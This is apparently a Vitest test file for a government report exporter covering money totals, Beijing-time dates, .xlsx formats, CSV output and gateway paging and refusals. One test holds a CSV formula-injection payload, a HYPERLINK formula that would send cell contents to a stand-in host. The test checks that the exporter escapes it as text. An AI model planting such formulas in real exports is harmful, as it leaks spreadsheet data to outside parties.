/**
 * Building the exported reports' sheets and files, without a hub: exact money totals, days and instants, typed
 * .xlsx cells with their formats and the About sheet, CSV with a BOM, file names, and reading a report through
 * a client that answers like the gateway (pages, the As-Of header, refusals). e2e/test/report-export.test.ts
 * compares real exports with the graph.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { GatewayClient, GraphQLAnswer } from '../src/client.ts';
import {
  askedByOf,
  type Column,
  cents as centsOf,
  csvOf,
  decimalOf,
  endOfDayInShanghai,
  type ReportBook,
  ReportRefused,
  readCsv,
  readReport,
  readXlsx,
  reportFilename,
  reportFiles,
  type Sheet,
  shanghaiIsoOf,
  totalRow,
  xlsxOf,
} from '../src/report.ts';

const COLUMNS: Column[] = [
  { key: 'name', zh: '单位', en: 'Unit', kind: 'text' },
  { key: 'count', zh: '项数', en: 'Lines', kind: 'integer' },
  { key: 'amount', zh: '金额(元)', en: 'Amount (CNY)', kind: 'money' },
  { key: 'share', zh: '比例(%)', en: 'Share (%)', kind: 'percent' },
  { key: 'due', zh: '应完成日期', en: 'Due date', kind: 'date' },
  { key: 'at', zh: '时间(北京时间)', en: 'At (UTC+8)', kind: 'datetime' },
  { key: 'ok', zh: '是否合规', en: 'Compliant', kind: 'boolean' },
];

const ROWS = [
  { name: '重庆市财政局, Finance', count: 2, amount: '0.10', share: 12.5, due: '2015-09-30', at: '2015-09-30T10:00:00.000Z', ok: true },
  { name: '"Quoted" unit', count: 3, amount: '1234567.89', share: 0, due: null, at: null, ok: false },
  { name: 'Third', count: 0, amount: '0.20', share: 100, due: '2016-02-29', at: '2015-12-31T16:30:00.000Z', ok: null },
];

const SHEET: Sheet = { slug: 'main', title: '测试 Test', columns: COLUMNS, rows: ROWS, total: totalRow(COLUMNS, ROWS) };
const BOOK: ReportBook = { report: 'costs', asOf: '2015-09-30', notes: ['A note.'], sheets: [SHEET] };
const ABOUT = {
  askedBy: 'finance (finance-bureau-officer)',
  generatedAt: new Date('2026-12-01T10:00:00Z'),
  gatewayUrl: 'http://gateway/graphql',
};

describe('money, days and instants', () => {
  it('totals money exactly in cents, an unknown amount leaving the total unknown', () => {
    expect(centsOf('0.1') + centsOf('0.2')).toBe(30n);
    expect(decimalOf(centsOf('-12.5'))).toBe('-12.50');
    expect(SHEET.total).toMatchObject({ name: '合计 Total', count: 5, amount: '1234568.19', share: null, ok: null });
    expect(totalRow(COLUMNS, [...ROWS, { ...ROWS[0], amount: null }]).amount).toBeNull();
    expect(() => centsOf('1.234')).toThrow(/Not an amount/);
  });

  it('reads a day as the end of that day in Asia/Shanghai, and writes instants on Beijing time', () => {
    expect(endOfDayInShanghai('2015-09-30').toISOString()).toBe('2015-09-30T16:00:00.000Z');
    expect(shanghaiIsoOf('2015-09-30T16:30:00.000Z')).toBe('2015-10-01T00:30:00+08:00');
  });
});

describe('the .xlsx file', () => {
  it('types each cell (money and counts as numbers with formats, days and instants as dates) and adds a total row', async () => {
    const body = await xlsxOf(BOOK, ABOUT);
    const [sheet] = await readXlsx(body);
    expect(sheet?.name).toBe('测试 Test');
    expect(sheet?.headings).toEqual(COLUMNS.map((column) => `${column.zh} ${column.en}`));
    const [first, second, , total] = sheet?.rows ?? [];
    expect(first?.['金额(元) Amount (CNY)']).toBe(0.1);
    expect(second?.['金额(元) Amount (CNY)']).toBe(1234567.89);
    expect(first?.['项数 Lines']).toBe(2);
    expect(first?.['比例(%) Share (%)']).toBe(12.5);
    expect(first?.['应完成日期 Due date']).toEqual(new Date('2015-09-30T00:00:00Z'));
    expect(first?.['时间(北京时间) At (UTC+8)']).toEqual(new Date('2015-09-30T18:00:00Z'));
    expect(first?.['是否合规 Compliant']).toBe(true);
    expect(second?.['应完成日期 Due date']).toBeNull();
    expect(total?.['单位 Unit']).toBe('合计 Total');
    expect(total?.['金额(元) Amount (CNY)']).toBe(1234568.19);

    // The number formats Excel shows them with, and the bold heading and total rows.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
    const worksheet = workbook.getWorksheet('测试 Test');
    expect(worksheet?.getCell('C2').numFmt).toBe('#,##0.00');
    expect(worksheet?.getCell('E2').numFmt).toBe('yyyy-mm-dd');
    expect(worksheet?.getCell('F2').numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(worksheet?.getCell('A1').font?.bold).toBe(true);
    expect(worksheet?.getCell('C5').font?.bold).toBe(true);
    expect(worksheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('ends with an About sheet: the report, the day and moment, who asked, when, the gateway, the notes', async () => {
    const sheets = await readXlsx(await xlsxOf({ ...BOOK, answeredAt: '2015-09-30T16:00:00.000Z' }, ABOUT));
    expect(sheets.map((sheet) => sheet.name)).toEqual(['测试 Test', 'About']);
    const about = Object.fromEntries((sheets[1]?.rows ?? []).map((row) => [String(row['项目 Item']), row['内容 Value']]));
    expect(about).toMatchObject({
      '报表 Report': '月度费用 Monthly cost of each unit by source (costs)',
      '截至日期 As of (end of day, Asia/Shanghai)': new Date('2015-09-30T00:00:00Z'),
      '数据时点 Answered at (UTC)': '2015-09-30T16:00:00.000Z',
      '查询角色 Asked as (role)': 'finance (finance-bureau-officer)',
      '生成时间 Generated at (UTC)': '2026-12-01T10:00:00.000Z',
      '网关 Gateway': 'http://gateway/graphql',
      '说明 Note': 'A note.',
    });
  });
});

describe('the CSV file', () => {
  it('is UTF-8 with a BOM, headings in Chinese and English, money as the exact decimal, instants with their offset', () => {
    const body = csvOf(SHEET);
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(body.toString('utf8')).toContain('\r\n');
    const { headings, rows } = readCsv(body);
    expect(headings[0]).toBe('单位 Unit');
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({
      '单位 Unit': '重庆市财政局, Finance',
      '金额(元) Amount (CNY)': '0.10',
      '应完成日期 Due date': '2015-09-30',
      '时间(北京时间) At (UTC+8)': '2015-09-30T18:00:00+08:00',
      '是否合规 Compliant': 'true',
    });
    expect(rows[1]?.['单位 Unit']).toBe('"Quoted" unit');
    expect(rows[1]?.['应完成日期 Due date']).toBe('');
    expect(rows[3]?.['金额(元) Amount (CNY)']).toBe('1234568.19');
  });

  it('writes a text that begins like a formula as text, and a negative amount as a number', () => {
    const row = { ...ROWS[0], name: '=HYPERLINK("http://x.example/?"&A1,"详情")', amount: '-12.50' };
    const { rows } = readCsv(csvOf({ ...SHEET, rows: [row], total: undefined }));
    expect(rows[0]?.['单位 Unit']).toBe(`'=HYPERLINK("http://x.example/?"&A1,"详情")`);
    expect(rows[0]?.['金额(元) Amount (CNY)']).toBe('-12.50');
  });

  it('is one file per sheet, the main sheet named plainly', async () => {
    const book: ReportBook = { ...BOOK, report: 'progress', sheets: [SHEET, { ...SHEET, slug: 'by-coordinating-unit' }] };
    const files = await reportFiles(book, 'csv', ABOUT);
    expect(files.map((file) => [file.filename, file.sheet])).toEqual([
      ['progress-2015-09-30.csv', 'main'],
      ['progress-2015-09-30-by-coordinating-unit.csv', 'by-coordinating-unit'],
    ]);
    expect(reportFilename({ report: 'budget-compliance', asOf: '2016-06-30', year: 2015 }, 'xlsx')).toBe(
      'budget-compliance-2016-06-30-2015.xlsx',
    );
    expect(reportFilename({ report: 'budget-compliance', asOf: '2016-06-30', year: 2016 }, 'xlsx')).toBe(
      'budget-compliance-2016-06-30.xlsx',
    );
  });
});

/** A client answering like the gateway from canned pages, recording what it was sent. */
function cannedClient(answer: (variables: Record<string, unknown>) => GraphQLAnswer<unknown>) {
  const sent: { query: string; variables: Record<string, unknown>; headers: Record<string, string> }[] = [];
  const client: GatewayClient = {
    url: 'http://gateway/graphql',
    async request<D>(query: string, variables: Record<string, unknown> = {}, headers: Record<string, string> = {}) {
      sent.push({ query, variables, headers });
      return answer(variables) as GraphQLAnswer<D>;
    },
  };
  return { client, sent };
}

const overdueNode = (id: string) => ({
  dueDate: '2015-09-30',
  stage: 'MIGRATING',
  daysOverdue: 3,
  system: {
    id,
    name: `System ${id}`,
    officialName: `系统${id}`,
    unit: { id: 'u', name: 'Unit', officialName: '单位', batch: { number: 1 }, coordinatingUnit: { name: 'Coord', officialName: '协调' } },
  },
});

describe('reading a report through the gateway', () => {
  it('walks every page, as of the day (the As-Of header and the root asOf)', async () => {
    const { client, sent } = cannedClient(({ after }) => ({
      data: {
        page: {
          totalCount: 3,
          pageInfo: { hasNextPage: !after, endCursor: after ? 'c2' : 'c1' },
          edges: (after ? ['s3'] : ['s1', 's2']).map((id) => ({ node: overdueNode(id) })),
        },
      },
    }));
    const book = await readReport(client, { report: 'overdue', asOf: '2015-10-03' });
    expect(book.sheets[0]?.rows.map((row) => row.systemId)).toEqual(['s1', 's2', 's3']);
    expect(book.sheets[0]?.rows[0]).toMatchObject({ coordinatingUnit: '协调 Coord', dueDate: '2015-09-30', daysOverdue: 3, batch: 1 });
    expect(sent.map((s) => [s.headers['As-Of'], s.variables.asOf, s.variables.first, s.variables.after])).toEqual([
      ['2015-10-03', '2015-10-03', 100, null],
      ['2015-10-03', '2015-10-03', 100, 'c1'],
    ]);
  });

  it('asks budget compliance for the as-of day’s year unless told another', async () => {
    const { client, sent } = cannedClient(() => ({
      data: { page: { totalCount: 0, pageInfo: { hasNextPage: false, endCursor: null }, edges: [] } },
    }));
    expect((await readReport(client, { report: 'budget-compliance', asOf: '2016-06-30' })).year).toBe(2016);
    expect(sent.map((s) => [s.variables.year, s.variables.groupBy])).toEqual([
      [2016, 'UNIT'],
      [2016, 'COORDINATING_UNIT'],
    ]);
    await readReport(client, { report: 'budget-compliance', asOf: '2016-06-30', year: 2015 });
    expect(sent.at(-1)?.variables.year).toBe(2015);
  });

  it('refuses the whole report with the graph’s code, and a malformed day before asking', async () => {
    const { client, sent } = cannedClient(() => ({
      data: { page: null },
      errors: [{ message: 'Refused for the analyst role: Query.budgetCompliance is only for …', extensions: { code: 'FORBIDDEN' } }],
    }));
    const refusal = await readReport(client, { report: 'budget-compliance', asOf: '2015-09-30' }).catch((error: unknown) => error);
    expect(refusal).toBeInstanceOf(ReportRefused);
    expect(refusal).toMatchObject({ code: 'FORBIDDEN', message: expect.stringMatching(/analyst/) });
    await expect(readReport(client, { report: 'costs', asOf: '30/09/2015' })).rejects.toMatchObject({ code: 'BAD_USER_INPUT' });
    expect(sent).toHaveLength(1);
  });

  it('names who asked from the token, for the About sheet', () => {
    const token = (claims: object) => `x.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.y`;
    expect(askedByOf(token({ sub: 'kai-county-coordinator', role: 'coordinator', unit: 'kai-county' }))).toBe(
      'coordinator of kai-county (kai-county-coordinator)',
    );
    expect(askedByOf(undefined)).toBe('signed out');
    expect(askedByOf('garbage')).toBe('an unreadable token');
  });
});
